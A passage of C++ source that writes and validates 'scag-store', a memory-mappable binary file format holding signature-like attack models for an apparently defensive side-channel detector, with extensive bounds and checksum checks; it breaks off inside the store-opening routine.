constexpr std::uint32_t kSecTokenMeta = 3;
constexpr std::uint32_t kSecTokenProbe = 4;
constexpr std::uint32_t kSecShard = 5;

// Header field offsets.
constexpr std::uint64_t kHdrVersion = 8;
constexpr std::uint64_t kHdrEndian = 12;
constexpr std::uint64_t kHdrDoubleProbe = 16;
constexpr std::uint64_t kHdrAlphabet = 24;
constexpr std::uint64_t kHdrSectionCount = 28;
constexpr std::uint64_t kHdrFileBytes = 32;
constexpr std::uint64_t kHdrSectionTableOff = 40;
constexpr std::uint64_t kHdrModelCount = 48;
constexpr std::uint64_t kHdrUniqueElements = 52;
constexpr std::uint64_t kHdrChecksum = 56;

// Shard-header array slots (relative u64 offsets after the 40-byte count
// block), in emission order.
enum ShardArray : std::size_t {
  kShNameOff = 0,
  kShNameBlob,
  kShGlobalIndex,
  kShElemStart,
  kShBlock,
  kShFirstCycle,
  kShCst,
  kShNormOff,
  kShNormIds,
  kShSemOff,
  kShSemIds,
  kShElemDedup,
  kShFeatCsp,
  kShFeatCount,
  kShFeatMass,
  kShScalars,
  kShTriage,
  kShArrayCount,  // 17
};
static_assert(kShardHeaderBytes == 40 + 8 * kShArrayCount);

[[noreturn]] void fail(const std::string& msg) {
  throw StoreError("scag-store: " + msg);
}

void need(bool ok, const char* msg) {
  if (!ok) fail(msg);
}

/// off + len stays inside [0, limit] without overflow.
bool fits(std::uint64_t off, std::uint64_t len, std::uint64_t limit) {
  return off <= limit && len <= limit - off;
}

std::uint32_t rd_u32(const std::uint8_t* p) {
  std::uint32_t v;
  std::memcpy(&v, p, sizeof v);
  return v;
}
std::uint64_t rd_u64(const std::uint8_t* p) {
  std::uint64_t v;
  std::memcpy(&v, p, sizeof v);
  return v;
}

// ---------------------------------------------------------------------------
// Writer

class ByteBuf {
 public:
  std::vector<std::uint8_t> bytes;

  std::uint64_t size() const { return bytes.size(); }
  void align(std::uint64_t a) {
    while (bytes.size() % a != 0) bytes.push_back(0);
  }
  void raw(const void* p, std::size_t n) {
    const auto* b = static_cast<const std::uint8_t*>(p);
    bytes.insert(bytes.end(), b, b + n);
  }
  void u32(std::uint32_t v) { raw(&v, sizeof v); }
  void u64(std::uint64_t v) { raw(&v, sizeof v); }
  void f64(double v) { raw(&v, sizeof v); }
  template <class T>
  void array(const std::vector<T>& v) {
    static_assert(std::is_trivially_copyable_v<T>);
    raw(v.data(), v.size() * sizeof(T));
  }
  void patch_u64(std::uint64_t at, std::uint64_t v) {
    std::memcpy(bytes.data() + at, &v, sizeof v);
  }
};

/// String table section payload: u32 count, u32 pad, u32 off[count+1],
/// char blob.
ByteBuf build_string_table(const std::vector<std::string_view>& strings) {
  ByteBuf b;
  b.u32(static_cast<std::uint32_t>(strings.size()));
  b.u32(0);
  std::uint32_t off = 0;
  b.u32(off);
  for (const std::string_view s : strings) {
    off += static_cast<std::uint32_t>(s.size());
    b.u32(off);
  }
  for (const std::string_view s : strings) b.raw(s.data(), s.size());
  return b;
}

/// Open-addressing probe table over the scan-alphabet strings: u64
/// capacity (power of two, load factor <= 0.5), u32 slot[capacity] of
/// token ids with kNoToken empty sentinel. FNV-1a + linear probing —
/// TokenInterner::find replays exactly this.
ByteBuf build_probe_table(const std::vector<std::string_view>& strings) {
  std::uint64_t capacity = 8;
  while (capacity < 2 * strings.size()) capacity <<= 1;
  std::vector<std::uint32_t> slots(capacity, kNoToken);
  const std::uint64_t mask = capacity - 1;
  for (std::uint32_t id = 0; id < strings.size(); ++id) {
    std::uint64_t at = fnv1a64(strings[id].data(), strings[id].size()) & mask;
    while (slots[at] != kNoToken) at = (at + 1) & mask;
    slots[at] = id;
  }
  ByteBuf b;
  b.u64(capacity);
  b.array(slots);
  return b;
}

struct PendingSection {
  std::uint32_t kind = 0;
  std::uint32_t family = kNoFamily;
  ByteBuf payload;
};

// ---------------------------------------------------------------------------
// Reader-side views

struct StringTableRef {
  std::uint32_t count = 0;
  const std::uint32_t* off = nullptr;  // count + 1 entries
  const char* blob = nullptr;

  std::string_view str(std::uint32_t id) const {
    return {blob + off[id], off[id + 1] - off[id]};
  }
};

struct ShardRef {
  Family family = Family::kCount;
  std::uint32_t model_count = 0;
  std::uint64_t elem_count = 0;
  const std::uint32_t* name_off = nullptr;
  const char* name_blob = nullptr;
  const std::uint32_t* global_index = nullptr;
  const std::uint32_t* elem_start = nullptr;
  const std::uint64_t* block = nullptr;
  const std::uint64_t* first_cycle = nullptr;
  const double* cst = nullptr;  // 4 per element
  const std::uint32_t* norm_off = nullptr;
  const std::uint32_t* norm_ids = nullptr;
  const std::uint32_t* sem_off = nullptr;
  const std::uint32_t* sem_ids = nullptr;
  const std::uint32_t* elem_dedup = nullptr;
  const double* feat_csp = nullptr;
  const double* feat_count = nullptr;
  const double* feat_mass = nullptr;
  const double* scalars = nullptr;  // 5 per model
  const double* triage = nullptr;   // 9 per model

  std::string_view name(std::uint32_t local) const {
    return {name_blob + name_off[local],
            name_off[local + 1] - name_off[local]};
  }
};

struct SectionRec {
  std::uint32_t kind = 0;
  std::uint32_t family = kNoFamily;
  std::uint64_t offset = 0;
  std::uint64_t bytes = 0;
  std::uint64_t checksum = 0;
  std::uint32_t shard_models = 0;
};

/// Bounds- and alignment-checked typed pointer into one section payload.
/// `base` is 8-aligned (page-aligned mapping or u64-backed owned buffer,
/// plus 64-aligned section offsets), so checking the relative offset's
/// alignment is sufficient.
template <class T>
const T* sect_array(const std::uint8_t* base, std::uint64_t sect_bytes,
                    std::uint64_t off, std::uint64_t count,
                    const char* what) {
  if (off % alignof(T) != 0) fail(std::string(what) + ": misaligned array");
  if (count > sect_bytes / sizeof(T) ||
      !fits(off, count * sizeof(T), sect_bytes))
    fail(std::string(what) + ": array out of bounds");
  return reinterpret_cast<const T*>(base + off);
}

StringTableRef parse_string_table(const std::uint8_t* base,
                                  std::uint64_t bytes, const char* what) {
  StringTableRef t;
  if (bytes < 8) fail(std::string(what) + ": truncated");
  t.count = rd_u32(base);
  if (t.count >= (1u << 30)) fail(std::string(what) + ": token count");
  t.off = sect_array<std::uint32_t>(base, bytes, 8,
                                    std::uint64_t{t.count} + 1, what);
  const std::uint64_t blob_off = 8 + 4 * (std::uint64_t{t.count} + 1);
  if (t.off[0] != 0) fail(std::string(what) + ": offsets must start at 0");
  for (std::uint32_t i = 0; i < t.count; ++i)
    if (t.off[i] > t.off[i + 1])
      fail(std::string(what) + ": offsets not monotonic");
  if (!fits(blob_off, t.off[t.count], bytes))
    fail(std::string(what) + ": string blob out of bounds");
  t.blob = reinterpret_cast<const char*>(base + blob_off);
  return t;
}

#if !SCAG_STORE_HAVE_MMAP
/// File -> owned buffer fallback used where mmap is unavailable.
std::vector<std::uint64_t> read_file_aligned(const std::string& path,
                                             std::uint64_t* out_bytes) {
  std::FILE* f = std::fopen(path.c_str(), "rb");
  if (f == nullptr) fail("cannot open " + path + ": " + std::strerror(errno));
  std::fseek(f, 0, SEEK_END);
  const long len = std::ftell(f);
  if (len < 0) {
    std::fclose(f);
    fail("cannot stat " + path);
  }
  std::fseek(f, 0, SEEK_SET);
  std::vector<std::uint64_t> buf((static_cast<std::uint64_t>(len) + 7) / 8);
  const std::size_t got = buf.empty()
                              ? 0
                              : std::fread(buf.data(), 1,
                                           static_cast<std::size_t>(len), f);
  std::fclose(f);
  if (got != static_cast<std::size_t>(len)) fail("short read of " + path);
  *out_bytes = static_cast<std::uint64_t>(len);
  return buf;
}
#endif

const char* section_kind_name(std::uint32_t kind) {
  switch (kind) {
    case kSecNormStrings: return "norm-strings";
    case kSecSemStrings: return "sem-strings";
    case kSecTokenMeta: return "token-meta";
    case kSecTokenProbe: return "token-probe";
    case kSecShard: return "shard";
    default: return "?";
  }
}

}  // namespace

// ---------------------------------------------------------------------------
// Pack

std::vector<std::uint8_t> pack_store_bytes(
    const std::vector<AttackModel>& models, const DistanceConfig& dc) {
  // Same duplicate-name contract as the text loader: the repository is a
  // directory keyed by name.
  std::unordered_set<std::string_view> seen_names;
  for (const AttackModel& m : models) {
    if (!seen_names.insert(m.name).second)
      fail("duplicate model name '" + m.name + "'");
    if (static_cast<int>(m.family) < 0 ||
        static_cast<int>(m.family) >= static_cast<int>(Family::kCount))
      fail("model '" + m.name + "' has an out-of-range family");
  }

  // Compile exactly as enrollment would: identical token ids, dedup ids,
  // and features are what make the store-backed scan bit-identical.
  CompiledRepository crepo(dc);
  for (const AttackModel& m : models) crepo.add(m.sequence);
  const std::vector<std::string_view> scan_strings =
      crepo.interner().strings_by_id();
  const bool full = dc.alphabet == IsAlphabet::kFullTokens;

  // The non-scan alphabet gets its own first-occurrence id space (needed
  // only for the bit-exact text round trip, never for scans).
  std::unordered_map<std::string_view, std::uint32_t> other_ids;
  std::vector<std::string_view> other_strings;
  for (const AttackModel& m : models) {
    for (const CstBbsElement& e : m.sequence) {
      for (const std::string& tok : full ? e.sem_tokens : e.norm_instrs) {
        const auto [it, inserted] = other_ids.try_emplace(
            tok, static_cast<std::uint32_t>(other_strings.size()));
        if (inserted) other_strings.push_back(it->first);
      }
    }
  }

  std::vector<PendingSection> sections;
  sections.push_back({kSecNormStrings, kNoFamily,
                      build_string_table(full ? scan_strings : other_strings)});
  sections.push_back({kSecSemStrings, kNoFamily,
                      build_string_table(full ? other_strings : scan_strings)});
  {
    ByteBuf meta;
    meta.u32(static_cast<std::uint32_t>(scan_strings.size()));
    meta.u32(0);
    meta.array(crepo.interner().weights());
    meta.array(crepo.interner().classes());
    sections.push_back({kSecTokenMeta, kNoFamily, std::move(meta)});
  }
  sections.push_back(
      {kSecTokenProbe, kNoFamily, build_probe_table(scan_strings)});

  // One shard per family that has models, in family order; models inside
  // a shard keep enrollment order (global_index records it).
  for (int fam = 0; fam < static_cast<int>(Family::kCount); ++fam) {
    std::vector<std::uint32_t> members;
    for (std::uint32_t j = 0; j < models.size(); ++j)
      if (static_cast<int>(models[j].family) == fam) members.push_back(j);
    if (members.empty()) continue;

    const std::uint32_t mc = static_cast<std::uint32_t>(members.size());
    std::vector<std::uint32_t> name_off{0};
    std::string name_blob;
    std::vector<std::uint32_t> elem_start{0};
    std::vector<std::uint64_t> block, first_cycle;
    std::vector<double> cst, feat_csp, feat_count, feat_mass, scalars, triage;
    std::vector<std::uint32_t> scan_off{0}, scan_ids, other_off{0}, other_id_v,
        elem_dedup;
    for (const std::uint32_t g : members) {
      const AttackModel& m = models[g];
      const CompiledSeq& view = crepo.model(g);
      name_blob += m.name;
      name_off.push_back(static_cast<std::uint32_t>(name_blob.size()));
      for (std::size_t i = 0; i < m.sequence.size(); ++i) {
        const CstBbsElement& e = m.sequence[i];
        block.push_back(e.block);
        first_cycle.push_back(e.first_cycle);
        cst.push_back(e.cst.before.ao);
        cst.push_back(e.cst.before.io);
        cst.push_back(e.cst.after.ao);
        cst.push_back(e.cst.after.io);
        const TokenId* tb = view.token_begin(i);
        scan_ids.insert(scan_ids.end(), tb, tb + view.token_count(i));
        scan_off.push_back(static_cast<std::uint32_t>(scan_ids.size()));
        for (const std::string& tok : full ? e.sem_tokens : e.norm_instrs)
          other_id_v.push_back(other_ids.at(tok));
        other_off.push_back(static_cast<std::uint32_t>(other_id_v.size()));
        elem_dedup.push_back(view.elem[i]);
        feat_csp.push_back(view.features.csp[i]);
        feat_count.push_back(view.features.count[i]);
        feat_mass.push_back(view.features.mass[i]);
      }
      elem_start.push_back(static_cast<std::uint32_t>(elem_dedup.size()));
      scalars.push_back(view.features.csp_lo);
      scalars.push_back(view.features.csp_hi);
      scalars.push_back(view.features.count_lo);
      scalars.push_back(view.features.count_hi);
      scalars.push_back(view.features.mass_hi);
      const ml::FeatureVector tv = triage_features(view.features, view.size());
      triage.insert(triage.end(), tv.begin(), tv.end());
    }

    ByteBuf b;
    b.u32(mc);
    b.u32(static_cast<std::uint32_t>(fam));
    b.u64(elem_dedup.size());
    b.u64(full ? scan_ids.size() : other_id_v.size());   // norm id count
    b.u64(full ? other_id_v.size() : scan_ids.size());   // sem id count
    b.u64(name_blob.size());
    const std::uint64_t offsets_at = b.size();
    for (std::size_t i = 0; i < kShArrayCount; ++i) b.u64(0);  // patched
    const auto emit = [&](ShardArray slot, auto&& fill) {
      b.align(8);
      b.patch_u64(offsets_at + 8 * static_cast<std::uint64_t>(slot), b.size());
      fill();
    };
    emit(kShNameOff, [&] { b.array(name_off); });
    emit(kShNameBlob, [&] { b.raw(name_blob.data(), name_blob.size()); });
    emit(kShGlobalIndex, [&] { b.array(members); });
    emit(kShElemStart, [&] { b.array(elem_start); });
    emit(kShBlock, [&] { b.array(block); });
    emit(kShFirstCycle, [&] { b.array(first_cycle); });
    emit(kShCst, [&] { b.array(cst); });
    emit(kShNormOff, [&] { b.array(full ? scan_off : other_off); });
    emit(kShNormIds, [&] { b.array(full ? scan_ids : other_id_v); });
    emit(kShSemOff, [&] { b.array(full ? other_off : scan_off); });
    emit(kShSemIds, [&] { b.array(full ? other_id_v : scan_ids); });
    emit(kShElemDedup, [&] { b.array(elem_dedup); });
    emit(kShFeatCsp, [&] { b.array(feat_csp); });
    emit(kShFeatCount, [&] { b.array(feat_count); });
    emit(kShFeatMass, [&] { b.array(feat_mass); });
    emit(kShScalars, [&] { b.array(scalars); });
    emit(kShTriage, [&] { b.array(triage); });
    sections.push_back(
        {kSecShard, static_cast<std::uint32_t>(fam), std::move(b)});
  }

  // Assemble: header | section table | 64-aligned payloads (zero padding
  // everywhere, so packing is byte-deterministic).
  ByteBuf out;
  out.raw(kMagic, sizeof kMagic);
  out.u32(kVersion);
  out.u32(kEndianCheck);
  out.u64(std::bit_cast<std::uint64_t>(kDoubleProbe));
  out.u32(dc.alphabet == IsAlphabet::kFullTokens ? 0u : 1u);
  out.u32(static_cast<std::uint32_t>(sections.size()));
  const std::uint64_t file_bytes_at = out.size();
  out.u64(0);            // file_bytes, patched below
  out.u64(kHeaderBytes); // section table offset
  out.u32(static_cast<std::uint32_t>(models.size()));
  out.u32(crepo.unique_elements());
  const std::uint64_t checksum_at = out.size();
  out.u64(0);            // header checksum, patched below

  const std::uint64_t table_at = out.size();
  for (std::size_t i = 0; i < sections.size(); ++i)
    for (std::size_t k = 0; k < kSectionRecordBytes; ++k) out.bytes.push_back(0);
  for (std::size_t i = 0; i < sections.size(); ++i) {
    out.align(kSectionAlign);
    const std::uint64_t rec = table_at + i * kSectionRecordBytes;
    std::uint32_t kind = sections[i].kind, family = sections[i].family;
    std::memcpy(out.bytes.data() + rec, &kind, 4);
    std::memcpy(out.bytes.data() + rec + 4, &family, 4);
    out.patch_u64(rec + 8, out.size());
    out.patch_u64(rec + 16, sections[i].payload.size());
    out.patch_u64(rec + 24, fnv1a64(sections[i].payload.bytes.data(),
                                    sections[i].payload.bytes.size()));
    out.raw(sections[i].payload.bytes.data(), sections[i].payload.size());
  }
  out.align(kSectionAlign);
  out.patch_u64(file_bytes_at, out.size());
  out.patch_u64(checksum_at, fnv1a64(out.bytes.data(), checksum_at));
  return out.bytes;
}

void pack_store(const std::string& path,
                const std::vector<AttackModel>& models,
                const DistanceConfig& dc) {
  const std::vector<std::uint8_t> bytes = pack_store_bytes(models, dc);
  const std::string tmp = path + ".tmp";
  std::FILE* f = std::fopen(tmp.c_str(), "wb");
  if (f == nullptr) fail("cannot create " + tmp + ": " + std::strerror(errno));
  const std::size_t wrote = std::fwrite(bytes.data(), 1, bytes.size(), f);
  const bool flushed = std::fclose(f) == 0;
  if (wrote != bytes.size() || !flushed) {
    std::remove(tmp.c_str());
    fail("short write to " + tmp);
  }
  if (std::rename(tmp.c_str(), path.c_str()) != 0) {
    std::remove(tmp.c_str());
    fail("cannot rename " + tmp + " to " + path + ": " +
         std::strerror(errno));
  }
}

bool is_store_file(const std::string& path) {
  std::FILE* f = std::fopen(path.c_str(), "rb");
  if (f == nullptr) return false;
  char magic[8] = {};
  const std::size_t got = std::fread(magic, 1, sizeof magic, f);
  std::fclose(f);
  return got == sizeof magic && std::memcmp(magic, kMagic, sizeof magic) == 0;
}

// ---------------------------------------------------------------------------
// Open + validate

struct ModelStore::Impl {
  // Ownership of the image: exactly one of (mmap, owned) is live.
  void* map_addr = nullptr;
  std::size_t map_len = 0;
  std::vector<std::uint64_t> owned;
  const std::uint8_t* data = nullptr;
  std::uint64_t size = 0;

  StringTableRef norm_tab, sem_tab;
  const double* weight = nullptr;
  const std::uint8_t* cls = nullptr;
  const std::uint32_t* probe = nullptr;
  std::uint64_t probe_mask = 0;
  std::vector<ShardRef> shards;
  struct ModelRef {
    std::uint32_t shard = 0;
    std::uint32_t local = 0;
  };
  std::vector<ModelRef> refs;          // enrollment order
  std::vector<CompiledSeq> models;     // enrollment order, views into image
  std::vector<SectionRec> sections;
  bool checksums_verified = false;

  ~Impl() {
#if SCAG_STORE_HAVE_MMAP
    if (map_addr != nullptr) ::munmap(map_addr, map_len);
#endif
  }

  const StringTableRef& scan_tab(IsAlphabet alphabet) const {
    return alphabet == IsAlphabet::kFullTokens ? norm_tab : sem_tab;
  }

  void parse(ModelStore& store, const StoreOptions& opts);
};

ModelStore::~ModelStore() = default;

void ModelStore::Impl::parse(ModelStore& store, const StoreOptions& opts) {
  // --- Header ---------------------------------------------------------
  need(size >= kHeaderBytes, "file too small for a store header");
  need(std::memcmp(data, kMagic, sizeof kMagic) == 0,
       "not a scag-store file (bad magic)");
  const std::uint32_t version = rd_u32(data + kHdrVersion);
  if (version != kVersion)
    fail("unsupported store version " + std::to_string(version) +
         " (this build reads version " + std::to_string(kVersion) + ")");
  need(rd_u32(data + kHdrEndian) == kEndianCheck,
       "store written with a different byte order");
  need(std::bit_cast<double>(rd_u64(data + kHdrDoubleProbe)) == kDoubleProbe,
       "store written with a different double layout");
  need(rd_u64(data + kHdrChecksum) == fnv1a64(data, kHdrChecksum),
       "header checksum mismatch");
  const std::uint32_t alphabet_u = rd_u32(data + kHdrAlphabet);
  need(alphabet_u <= 1, "unknown scan alphabet");
  store.alphabet_ =
      alphabet_u == 0 ? IsAlphabet::kFullTokens : IsAlphabet::kSemanticWeighted;
  need(rd_u64(data + kHdrFileBytes) == size,
       "file size does not match the header");
  const std::uint32_t model_count = rd_u32(data + kHdrModelCount);
  store.unique_elements_ = rd_u32(data + kHdrUniqueElements);
  const std::uint32_t section_count = rd_u32(data + kHdrSectionCount);
  need(section_count >= 4 && section_count <= 64, "bad section count");
  const std::uint64_t table_off = rd_u64(data + kHdrSectionTableOff);
  need(table_off == kHeaderBytes, "bad section table offset");
  need(fits(table_off, std::uint64_t{section_count} * kSectionRecordBytes,
            size),
       "section table out of bounds");

  // --- Section table --------------------------------------------------
  const std::uint64_t payload_floor =
      table_off + std::uint64_t{section_count} * kSectionRecordBytes;
  sections.resize(section_count);
  for (std::uint32_t i = 0; i < section_count; ++i) {
    const std::uint8_t* rec = data + table_off + i * kSectionRecordBytes;
    SectionRec& s = sections[i];
    s.kind = rd_u32(rec);
    s.family = rd_u32(rec + 4);
    s.offset = rd_u64(rec + 8);
    s.bytes = rd_u64(rec + 16);
    s.checksum = rd_u64(rec + 24);
    need(s.kind >= kSecNormStrings && s.kind <= kSecShard,
         "unknown section kind");
    need(s.offset % kSectionAlign == 0, "misaligned section");
    need(s.offset >= payload_floor, "section overlaps the directory");
    need(fits(s.offset, s.bytes, size), "section out of bounds");
  }
  {
    std::vector<const SectionRec*> by_off;
    by_off.reserve(sections.size());
    for (const SectionRec& s : sections) by_off.push_back(&s);
    std::sort(by_off.begin(), by_off.end(),
              [](const SectionRec* a, const SectionRec* b) {
                return a->offset < b->offset;
              });
    for (std::size_t i = 1; i < by_off.size(); ++i)
      need(by_off[i]->offset >=
               by_off[i - 1]->offset + by_off[i - 1]->bytes,
           "overlapping sections");
  }
  if (opts.verify_checksums) {
    for (const SectionRec& s : sections)
      need(fnv1a64(data + s.offset, s.bytes) == s.checksum,
           "section checksum mismatch");
    checksums_verified = true;
  }

  // --- Global sections ------------------------------------------------
  const SectionRec* sec[kSecShard + 1] = {};
  std::vector<const SectionRec*> shard_recs;
  for (const SectionRec& s : sections) {
    if (s.kind == kSecShard) {
      need(s.family < static_cast<std::uint32_t>(Family::kCount),
           "shard family out of range");
      shard_recs.push_back(&s);
      continue;
    }
    need(sec[s.kind] == nullptr, "duplicate global section");
    sec[s.kind] = &s;
  }
  for (std::uint32_t k = kSecNormStrings; k <= kSecTokenProbe; ++k)
    need(sec[k] != nullptr, "missing global section");
  {
    std::vector<char> fam_seen(static_cast<std::size_t>(Family::kCount), 0);
    for (const SectionRec* s : shard_recs) {
      need(!fam_seen[s->family], "duplicate shard for a family");
      fam_seen[s->family] = 1;
    }
  }

  norm_tab = parse_string_table(data + sec[kSecNormStrings]->offset,
                                sec[kSecNormStrings]->bytes, "norm-strings");
  sem_tab = parse_string_table(data + sec[kSecSemStrings]->offset,
                               sec[kSecSemStrings]->bytes, "sem-strings");
  const std::uint32_t scan_count = scan_tab(store.alphabet_).count;

  {
    const std::uint8_t* base = data + sec[kSecTokenMeta]->offset;
    const std::uint64_t bytes = sec[kSecTokenMeta]->bytes;
    need(bytes >= 8, "token-meta: truncated");
    need(rd_u32(base) == scan_count,
         "token-meta: count does not match the scan token table");
    weight = sect_array<double>(base, bytes, 8, scan_count, "token-meta");
    cls = sect_array<std::uint8_t>(base, bytes, 8 + 8 * std::uint64_t{scan_count},
                                   scan_count, "token-meta");
    for (std::uint32_t i = 0; i < scan_count; ++i)
      need(std::isfinite(weight[i]), "token-meta: non-finite token weight");
  }
  {
    const std::uint8_t* base = data + sec[kSecTokenProbe]->offset;
    const std::uint64_t bytes = sec[kSecTokenProbe]->bytes;
    need(bytes >= 8, "token-probe: truncated");
    const std::uint64_t capacity = rd_u64(base);
    need(capacity >= 8 && capacity <= (1u << 28) &&
             (capacity & (capacity - 1)) == 0,
         "token-probe: bad capacity");
    need(capacity >= std::uint64_t{scan_count} + 1,
         "token-probe: table too small");
    probe = sect_array<std::uint32_t>(base, bytes, 8, capacity, "token-probe");
    probe_mask = capacity - 1;
    std::uint64_t filled = 0;
    for (std::uint64_t i = 0; i < capacity; ++i) {
      need(probe[i] == kNoToken || probe[i] < scan_count,
           "token-probe: slot id out of range");
      filled += probe[i] != kNoToken;
    }
    need(filled == scan_count, "token-probe: wrong fill count");
    // Every token must probe back to its own id, or mapped find() would
    // silently diverge from the enrollment-time interner.
    const StringTableRef& st = scan_tab(store.alphabet_);
    for (std::uint32_t id = 0; id < scan_count; ++id) {
      const std::string_view s = st.str(id);
      std::uint64_t at = fnv1a64(s.data(), s.size()) & probe_mask;
      while (probe[at] != kNoToken && (probe[at] != id || st.str(probe[at]) != s))
        at = (at + 1) & probe_mask;
      need(probe[at] == id, "token-probe: token does not resolve to its id");
    }
  }

  // --- Shards ---------------------------------------------------------
  std::vector<char> model_seen(model_count, 0);
  std::uint32_t models_total = 0;
  shards.reserve(shard_recs.size());
  for (const SectionRec* s : shard_recs) {
    const std::uint8_t* base = data + s->offset;
    const std::uint64_t bytes = s->bytes;
    need(bytes >= kShardHeaderBytes, "shard: truncated header");
    ShardRef sh;
    sh.model_count = rd_u32(base);
    need(rd_u32(base + 4) == s->family, "shard: family mismatch");
    sh.family = static_cast<Family>(s->family);
    sh.elem_count = rd_u64(base + 8);
    const std::uint64_t norm_id_count = rd_u64(base + 16);
    const std::uint64_t sem_id_count = rd_u64(base + 24);
    const std::uint64_t name_blob_bytes = rd_u64(base + 32);
    need(sh.model_count > 0, "shard: empty shard");
    std::uint64_t off[kShArrayCount];
    for (std::size_t i = 0; i < kShArrayCount; ++i)
      off[i] = rd_u64(base + 40 + 8 * i);

    const std::uint64_t mc = sh.model_count, ec = sh.elem_count;
    sh.name_off =
        sect_array<std::uint32_t>(base, bytes, off[kShNameOff], mc + 1, "shard");
    need(fits(off[kShNameBlob], name_blob_bytes, bytes),
         "shard: name blob out of bounds");
    sh.name_blob = reinterpret_cast<const char*>(base + off[kShNameBlob]);
    need(sh.name_off[0] == 0, "shard: name offsets must start at 0");
    for (std::uint64_t i = 0; i < mc; ++i)
      need(sh.name_off[i] <= sh.name_off[i + 1],
           "shard: name offsets not monotonic");
    need(sh.name_off[mc] <= name_blob_bytes, "shard: name blob overrun");

    sh.global_index = sect_array<std::uint32_t>(base, bytes,
                                                off[kShGlobalIndex], mc, "shard");
    sh.elem_start = sect_array<std::uint32_t>(base, bytes, off[kShElemStart],
                                              mc + 1, "shard");
    sh.block = sect_array<std::uint64_t>(base, bytes, off[kShBlock], ec, "shard");
    sh.first_cycle =
        sect_array<std::uint64_t>(base, bytes, off[kShFirstCycle], ec, "shard");
    sh.cst = sect_array<double>(base, bytes, off[kShCst], 4 * ec, "shard");
    sh.norm_off = sect_array<std::uint32_t>(base, bytes, off[kShNormOff],
                                            ec + 1, "shard");
    sh.norm_ids = sect_array<std::uint32_t>(base, bytes, off[kShNormIds],
                                            norm_id_count, "shard");
    sh.sem_off =
        sect_array<std::uint32_t>(base, bytes, off[kShSemOff], ec + 1, "shard");
    sh.sem_ids = sect_array<std::uint32_t>(base, bytes, off[kShSemIds],
                                           sem_id_count, "shard");
    sh.elem_dedup = sect_array<std::uint32_t>(base, bytes, off[kShElemDedup],
                                              ec, "shard");
    sh.feat_csp = sect_array<double>(base, bytes, off[kShFeatCsp], ec, "shard");
    sh.feat_count =
        sect_array<double>(base, bytes, off[kShFeatCount], ec, "shard");
    sh.feat_mass = sect_array<double>(base, bytes, off[kShFeatMass], ec, "shard");
    sh.scalars = sect_array<double>(base, bytes, off[kShScalars], 5 * mc, "shard");
    sh.triage = sect_array<double>(base, bytes, off[kShTriage], 9 * mc, "shard");

    need(sh.elem_start[0] == 0, "shard: elem_start must start at 0");
    for (std::uint64_t i = 0; i < mc; ++i)
      need(sh.elem_start[i] <= sh.elem_start[i + 1],
           "shard: elem_start not monotonic");
    need(sh.elem_start[mc] == ec, "shard: elem_start does not cover elements");
    const auto check_offsets = [&](const std::uint32_t* o, std::uint64_t ids,
                                   const char* what) {
      need(o[0] == 0, what);
      for (std::uint64_t i = 0; i < ec; ++i) need(o[i] <= o[i + 1], what);
      need(o[ec] == ids, what);
    };
    check_offsets(sh.norm_off, norm_id_count, "shard: bad norm token offsets");
    check_offsets(sh.sem_off, sem_id_count, "shard: bad sem token offsets");
    for (std::uint64_t i = 0; i < norm_id_count; ++i)
      need(sh.norm_ids[i] < norm_tab.count, "shard: norm token id out of range");
    for (std::uint64_t i = 0; i < sem_id_count; ++i)
      need(sh.sem_ids[i] < sem_tab.count, "shard: sem token id out of range");
    for (std::uint64_t i = 0; i < ec; ++i) {
      need(sh.elem_dedup[i] < store.unique_elements_,
           "shard: dedup id out of range");
      need(sh.block[i] <= 0xFFFFFFFFull, "shard: block id out of range");
    }
    // Every double that can reach scan arithmetic or a sort comparator
    // must be finite: NaN scores would void the strict-weak-ordering
    // contract of Detector::finalize and ScanIndex's sorts (UB), so
    // finiteness is a structural requirement, not a checksum concern.
    const auto check_finite = [](const double* p, std::uint64_t n,
                                 const char* what) {
      for (std::uint64_t i = 0; i < n; ++i)
        if (!std::isfinite(p[i])) fail(what);
    };
    check_finite(sh.cst, 4 * ec, "shard: non-finite cache-state value");
    check_finite(sh.feat_csp, ec, "shard: non-finite element feature");
    check_finite(sh.feat_count, ec, "shard: non-finite element feature");
    check_finite(sh.feat_mass, ec, "shard: non-finite element feature");
    check_finite(sh.scalars, 5 * mc, "shard: non-finite envelope scalar");
    check_finite(sh.triage, 9 * mc, "shard: non-finite triage feature");
    for (std::uint64_t i = 0; i < mc; ++i) {
      const std::uint32_t g = sh.global_index[i];
      need(g < model_count, "shard: model index out of range");
      need(!model_seen[g], "shard: duplicate model index");
      model_seen[g] = 1;
    }
    models_total += sh.model_count;
    shards.push_back(sh);
  }
  need(models_total == model_count,
       "model count does not match the shard directory");

  // --- Directory + per-model views ------------------------------------
  refs.resize(model_count);
  models.resize(model_count);
  store.names_.resize(model_count);
  store.families_.resize(model_count);
  const bool full_alpha = store.alphabet_ == IsAlphabet::kFullTokens;
  for (std::uint32_t si = 0; si < shards.size(); ++si) {
    const ShardRef& sh = shards[si];
    const std::uint32_t* scan_off = full_alpha ? sh.norm_off : sh.sem_off;
    const std::uint32_t* scan_ids = full_alpha ? sh.norm_ids : sh.sem_ids;
    for (std::uint32_t local = 0; local < sh.model_count; ++local) {
      const std::uint32_t g = sh.global_index[local];
      refs[g] = {si, local};
      store.names_[g] = sh.name(local);
      store.families_[g] = sh.family;
      const std::uint32_t es = sh.elem_start[local];
      const std::uint32_t n = sh.elem_start[local + 1] - es;
      CompiledSeq& v = models[g];
      v.tokens = scan_ids;
      v.offsets = scan_off + es;
      v.elem = {sh.elem_dedup + es, n};
      v.features.csp = {sh.feat_csp + es, n};
      v.features.count = {sh.feat_count + es, n};
      v.features.mass = {sh.feat_mass + es, n};
      const double* sc = sh.scalars + 5 * std::uint64_t{local};
      v.features.csp_lo = sc[0];
      v.features.csp_hi = sc[1];
      v.features.count_lo = sc[2];
      v.features.count_hi = sc[3];
      v.features.mass_hi = sc[4];
    }
  }
}

std::shared_ptr<const ModelStore> ModelStore::open(const std::string& path,
                                                   const StoreOptions& opts) {
  // Loader-side series for the observability plane: the open-to-usable
  // latency is the store's whole selling point, so expose it.
  static support::Counter& c_opens =
      support::Registry::global().counter("store.opens");
  static support::Histogram& h_open =
      support::Registry::global().histogram("store.open_ns");
  c_opens.add();
  support::ScopedTimer timer(h_open);
  std::shared_ptr<ModelStore> store(new ModelStore());
  store->impl_ = std::make_unique<Impl>();
  Impl& im = *store->impl_;
#if SCAG_STORE_HAVE_MMAP
  const int fd = ::open(path.c_str(), O_RDONLY);
  if (fd < 0) fail("cannot open " + path + ": " + std::strerror(errno));
  struct stat st;
  if (::fstat(fd, &st) != 0 || st.st_size < 0) {
